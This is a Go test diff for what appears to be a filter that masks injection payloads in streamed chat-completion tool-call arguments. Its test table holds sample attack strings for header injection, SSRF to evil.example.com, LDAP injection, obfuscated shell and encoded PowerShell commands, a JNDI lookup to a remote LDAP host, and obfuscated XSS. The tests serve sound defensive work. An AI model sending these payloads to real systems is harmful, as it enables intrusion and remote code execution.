@@ -40,3 +40,34 @@ func TestValues(t *testing.T) {
 		stream(strings.Split(c.in, "")...)
 	}
 }
+
+// TestCodeInStreams holds that what is code in an argument is masked alike in a body and in a stream, wherever deltas part it, and that
+// what reads a little like it passes.
+func TestCodeInStreams(t *testing.T) {
+	g := load(t, `{"rules":[{"name":"p","match":["payloads"],"minScore":0.8,"action":"Mask","mask":{"style":"Label"}}]}`)
+	d := &dialect{path: "/v1/chat/completions", contentType: "text/event-stream"}
+	for in, label := range map[string]string{
+		`{"host":"x%0d%0aSet-Cookie: a=b"}`:                "[HEADER_INJECTION]",
+		`{"to":"a@example.com\nBcc: b@example.com","n":1}`: "[HEADER_INJECTION]",
+		`{"next":"//evil.example.com/%2e%2e"}`:             "[SSRF]",
+		`{"url":"http://①②⑦.⓪.⓪.①/x","n":1}`:               "[SSRF]",
+		`{"u":"admin)(&)"}`:                                "[SQL_INJECTION]",
+		`{"f":"c=cat;$c x"}`:                               "[COMMAND_INJECTION]",
+		`{"f":"powershell -nop -w hidden -enc SQBFAFgA"}`:  "[COMMAND_INJECTION]",
+		`{"f":"${${lower:j}ndi:ldap://203.0.113.9/a}"}`:    "[TEMPLATE_INJECTION]",
+		`{"t":"window['al'+'ert'](1)"}`:                    "[XSS]",
+		`{"name":"AT&T; Johnson & Johnson","q":"// a comment","w":"name|id|email","v":"Meeting\r\nLocation: Room 5"}`: "",
+	} {
+		want := wholeArguments(t, g, in)
+		if (want == in) != (label == "") || !strings.Contains(want, label) {
+			t.Errorf("%s became %s, want %s", in, want, label)
+		}
+		for cut := range in {
+			out, _ := streamed(t, g, d, userMail, argumentStream(in[:cut], in[cut:]))
+			if got := calls(t, out); got != want {
+				t.Errorf("%q, %q became %s, want %s", in[:cut], in[cut:], got, want)
+				break
+			}
+		}
+	}
+}
